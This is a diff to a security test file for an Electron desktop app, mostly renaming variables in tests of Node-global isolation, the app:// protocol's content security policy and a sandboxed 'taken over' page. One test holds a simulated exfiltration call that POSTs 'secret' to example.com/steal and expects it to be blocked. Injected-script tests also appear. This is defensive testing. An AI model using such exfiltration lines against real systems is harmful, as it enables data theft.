@@ -4,7 +4,7 @@ import type { DesktopBridge, DesktopFacts } from '../../contract/desktop/desktop
 import { expect, test, type Console } from './desktop-test.ts'
 import { startAgain } from './launch.ts'
 
-/** The names of the bridge's members. The compiler verifies that the list is complete. */
+/** The bridge's members. The compiler verifies that the list is complete. */
 const bridgeMembers = {
   facts: true,
   ready: true,
@@ -45,8 +45,8 @@ test.describe('the window', () => {
     expect(await addressOf({ app })).toMatch(/^app:\/\/kerblight\//)
 
     const nodeNames = ['require', 'process', 'module', 'exports', 'Buffer', 'global', '__dirname', 'electron']
-    const found = await page.evaluate((names) => names.filter((name) => name in window), nodeNames)
-    expect(found).toEqual([])
+    const exposedNames = await page.evaluate((names) => names.filter((name) => name in window), nodeNames)
+    expect(exposedNames).toEqual([])
 
     const bridge = await page.evaluate(() => ({
       members: Object.keys(window.desktop ?? {}),
@@ -81,13 +81,13 @@ test.describe('the window', () => {
 test.describe('app://kerblight', () => {
   test('serves only the built renderer, under a policy without external scripts', async ({ start }) => {
     const { app } = await start()
-    const answers = await app.evaluate(async ({ net }, addresses) => {
+    const responses = await app.evaluate(async ({ net }, addresses) => {
       const statuses: Record<string, number> = {}
       for (const address of addresses) statuses[address] = (await net.fetch(address)).status
       const post = await net.fetch('app://kerblight/', { method: 'POST' })
       return { ...statuses, post: post.status }
     }, addresses)
-    expect(answers).toEqual({
+    expect(responses).toEqual({
       'app://kerblight/': 200,
       'app://kerblight/dashboard/overview': 200,
       'app://kerblight/favicon.svg': 200,
@@ -101,8 +101,8 @@ test.describe('app://kerblight', () => {
     })
 
     const headers = await app.evaluate(async ({ net }) => {
-      const answer = await net.fetch('app://kerblight/')
-      return Object.fromEntries(answer.headers)
+      const response = await net.fetch('app://kerblight/')
+      return Object.fromEntries(response.headers)
     })
     const policy = headers['content-security-policy'] ?? ''
     expect(policy).toContain("default-src 'none'")
@@ -142,8 +142,7 @@ test.describe('a page that has been taken over', () => {
       const inline = document.createElement('script')
       inline.textContent = 'window.name += "inline"'
       document.body.append(remote, inline)
-      // The string is evaluated by a timer, because code that a test runs in the page may evaluate strings
-      // itself.
+      // A timer evaluates the string, because code that a test runs in the page may itself evaluate strings.
       Reflect.apply(setTimeout, window, ['window.name += "text"'])
       await new Promise((resolve) => remote.addEventListener('error', resolve))
       await new Promise((resolve) => setTimeout(resolve, 50))
@@ -206,7 +205,7 @@ test.describe('a page that has been taken over', () => {
 
   test('is refused every device and permission but the camera’s picture', async ({ start }) => {
     const { page } = await start()
-    const answers = await page.evaluate(async () => {
+    const responses = await page.evaluate(async () => {
       const position = new Promise((resolve) =>
         navigator.geolocation.getCurrentPosition(
           () => resolve('granted'),
@@ -225,18 +224,18 @@ test.describe('a page that has been taken over', () => {
       )
       return [await Notification.requestPermission(), await position, await clipboard, ...states]
     })
-    expect(answers).toEqual(['denied', 1, 'NotAllowedError', 'granted', 'denied', 'denied'])
+    expect(responses).toEqual(['denied', 1, 'NotAllowedError', 'granted', 'denied', 'denied'])
   })
 
   test('cannot talk to a host that is none of ours', async ({ start }) => {
     const { page } = await start()
-    const answer = await page.evaluate(() =>
+    const response = await page.evaluate(() =>
       fetch('https://example.com/steal', { method: 'POST', body: 'secret' }).then(
         () => 'sent',
         ({ name }: Error) => name,
       ),
     )
-    expect(answer).toBe('TypeError')
+    expect(response).toBe('TypeError')
   })
 })
 
@@ -256,8 +255,7 @@ test.describe('a second start', () => {
 })
 
 /**
- * Returns the page's URL as the main process sees it. With the Electron substitute, the page reports a
- * different one.
+ * Returns the page's URL in the main process. With the Electron stand-in, the page reports a different one.
  */
 function addressOf({ app }: Pick<Console, 'app'>): Promise<string> {
   return app.evaluate(({ webContents }) => webContents.getAllWebContents()[0]?.getURL() ?? '')
@@ -276,7 +274,6 @@ async function settled({ app, page }: Console): Promise<void> {
 
 interface Elsewhere {
   origin: string
-  /** The paths that were requested. */
   visits: string[]
   stop: () => void
 }
